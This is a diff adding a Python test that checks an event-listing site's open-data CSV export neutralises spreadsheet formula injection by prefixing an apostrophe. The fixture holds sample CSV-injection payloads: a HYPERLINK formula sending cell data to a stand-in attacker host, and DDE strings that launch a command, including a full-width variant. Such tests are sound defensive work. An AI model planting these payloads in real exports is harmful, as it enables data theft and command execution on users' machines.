@@ -196,6 +196,41 @@ def test_open_data_csv(site):
     )
 
 
+FORMULAS = {
+    "イベント名": '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
+    "場所名称": "+1+cmd|' /C calc'!A0",
+    "料金(詳細)": "-2+3",
+    "参加申込方法": "＠SUM(1+1)*cmd|' /C calc'!A0",  # full width: Japanese spreadsheets convert it
+    "連絡先名称": "=1+1",
+}
+
+
+def test_open_data_cells_never_start_a_formula(tmp_path):
+    """OWASP's CSV-injection advice: a leading ' so that a spreadsheet shows the text instead of
+    running it; the rest of each value is kept as written."""
+    event = f"""
+        ---
+        title: '{FORMULAS["イベント名"]}'
+        date: 2026-05-01
+        categories: [kanko]
+        start: 2026-07-04 10:00
+        place: "{FORMULAS["場所名称"]}"
+        fee: "{FORMULAS["料金(詳細)"]}"
+        apply: "{FORMULAS["参加申込方法"]}"
+        contact: "{FORMULAS["連絡先名称"]} 0274-74-0000"
+        ---
+        本文です。
+        """
+    project = write_project(tmp_path, {"index.md": FILES["index.md"], "events/2026/formula.md": event})
+    result = mkdocs_build(project, now=NOW)
+    assert result.returncode == 0, result.output
+    text = (project / "site/opendata/events.csv").read_bytes().decode("utf-8-sig")
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠")) for cell in row.values())
+
+
 class _Head(HTMLParser):
     def __init__(self):
         super().__init__()
